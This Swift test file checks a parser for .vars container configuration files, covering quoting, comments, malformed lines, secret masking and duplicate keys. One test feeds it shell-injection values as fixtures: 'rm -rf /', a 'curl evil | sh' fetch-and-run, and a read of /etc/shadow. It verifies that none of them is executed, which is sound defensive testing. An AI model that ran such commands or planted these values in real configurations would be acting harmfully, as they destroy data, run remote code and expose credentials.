@testable import ConfigResolution
import Foundation
import Testing

@Suite("VarsFileParser")
struct VarsFileParserTests {
    let parser = VarsFileParser()

    func parse(_ text: String, scope: VarsFileParser.Scope = .global) -> VarsFile {
        parser.parse(text, path: "/cfg/default.vars", scope: scope)
    }

    @Test("Comments, blank lines, quotes and inline comments are handled as build.func does")
    func basics() {
        let file = parse("""
            # a comment
              
            var_cpu=4 # four cores
            var_ram='2048'
            var_tags="community-script;media" # quoted, so ';' survives
              var_disk=8   
            var_hostname=My Host
            var_mtu=
            """)
        #expect(file.warnings.isEmpty)
        #expect(file.entries[.cpu]?.value == .integer(4))
        #expect(file.entries[.ram]?.value == .integer(2048))
        #expect(file.entries[.tags]?.value?.canonicalText == "community-script;media")
        #expect(file.entries[.disk]?.value == .integer(8))
        #expect(file.entries[.hostname]?.value == .text("myhost"))
        #expect(file.entries[.mtu] != nil && file.entries[.mtu]?.value == nil)
        #expect(file.entries[.cpu]?.source == .globalFile(path: "/cfg/default.vars", line: 3))
    }

    @Test("Code in values is never run: it is kept as literal text or rejected by the key's rule")
    func codeInValues() throws {
        let file = parse("""
            var_tags=$(rm -rf /)
            var_hostname=`reboot`
            var_post_install=/root/x.sh; curl evil | sh
            var_pw=$(cat${IFS}/etc/shadow)
            var_os=debian$(id)
            """)
        #expect(file.entries[.tags] == nil)
        #expect(file.entries[.hostname] == nil)
        #expect(file.entries[.postInstall] == nil)
        #expect(file.entries[.os] == nil)
        #expect(file.entries[.password]?.value == .text("$(cat${IFS}/etc/shadow)"))
        #expect(file.warnings.count == 4)
        #expect(file.warnings.allSatisfy { $0.kind == .invalidValue && $0.message.contains("/cfg/default.vars:") })
    }

    @Test("A rejected secret is a rejection, not a skipped line, and is masked in it")
    func maskedSecretRejection() throws {
        let file = parse("var_github_token=ghp_secret value\n")
        #expect(file.warnings.isEmpty)
        let rejection = try #require(file.rejections.first)
        #expect(rejection.description.contains(ConfigKey.secretMask))
        #expect(!rejection.description.contains("ghp_secret"))
    }

    @Test("NUL bytes, control characters and invalid UTF-8 skip the line without crashing")
    func binaryContent() {
        let file = parse("var_cpu=2\u{0}\nvar_ram\u{0}=512\nvar_disk=8\n")
        #expect(file.entries[.cpu] == nil && file.entries[.ram] == nil)
        #expect(file.entries[.disk]?.value == .integer(8))
        #expect(file.warnings.map(\.kind) == [.invalidValue, .malformedLine])
        let bytes = Data([0x76, 0x61, 0x72, 0x5F, 0x6F, 0x73, 0x3D, 0xFF, 0xFE, 0x0A])  // var_os=\xFF\xFE
        let decoded = parser.parse(bytes, path: "/x.vars", scope: .app)
        #expect(decoded.entries.isEmpty && decoded.warnings.count == 1)
    }

    @Test("CRLF and a byte-order mark are accepted and line numbers stay right")
    func crlf() {
        let file = parse("\u{FEFF}var_cpu=2\r\n# c\r\nvar_ram=512\r\n")
        #expect(file.warnings.isEmpty)
        #expect(file.entries[.cpu]?.value == .integer(2))
        #expect(file.entries[.ram]?.source.line == 3)
    }

    @Test("Very long lines are rejected or skipped, never accepted whole")
    func longLines() {
        let long = String(repeating: "a", count: 200_000)
        let file = parse("var_tags=\(long)\n#\(long)\nvar_cpu=3\n")
        #expect(file.entries[.tags] == nil)
        #expect(file.entries[.cpu]?.value == .integer(3))
        #expect(file.warnings.count == 1)
        #expect(file.warnings[0].message.count < 500)
    }

    @Test("Unknown keys, non-var names, var_ctid and malformed lines are reported with file and line")
    func unknownKeys() {
        let file = parse("""
            var_colour=blue
            DIAGNOSTICS=yes
            var_ctid=105
            export var_cpu=2
            var_ram = 512
            just text
            var_tags="open
            var_tags="a" trailing
            """)
        #expect(file.entries.isEmpty)
        #expect(file.warnings.map(\.kind) == [.unknownKey, .unknownKey, .unknownKey, .malformedLine,
                                             .malformedLine, .malformedLine, .invalidValue, .invalidValue])
        #expect(file.warnings.enumerated().allSatisfy { $1.source?.line == $0 + 1 })
        #expect(file.warnings[0].message.contains("var_colour is an unknown setting"))
        #expect(file.warnings[2].message.contains("cannot be set in a .vars file"))
    }

    @Test("A duplicate key: the last line wins and a warning names both lines")
    func duplicates() throws {
        let file = parse("var_cpu=2\nvar_ram=512\nvar_cpu=6\n")
        #expect(file.entries[.cpu]?.value == .integer(6))
        let warning = try #require(file.warnings.first)
        #expect(file.warnings.count == 1 && warning.kind == .duplicateKey)
        #expect(warning.message.contains(":3:") && warning.message.contains("line 1"))
    }

    @Test("Quoted values keep everything between the first and the last quote")
    func quoting() {
        let file = parse("var_pw=\"a\"b'c\"\nvar_ssh_authorized_key='ssh-ed25519 AAAA # not a comment'\n")
        #expect(file.entries[.password]?.value == .text("a\"b'c"))
        #expect(file.entries[.sshAuthorizedKey]?.value == .text("ssh-ed25519 AAAA # not a comment"))
    }

    @Test("App files produce app-file sources")
    func appScope() {
        let file = parser.parse("var_cpu=2", path: "/d/defaults/jellyfin.vars", scope: .app)
        #expect(file.entries[.cpu]?.source.description == "app-file:/d/defaults/jellyfin.vars:1")
    }
}
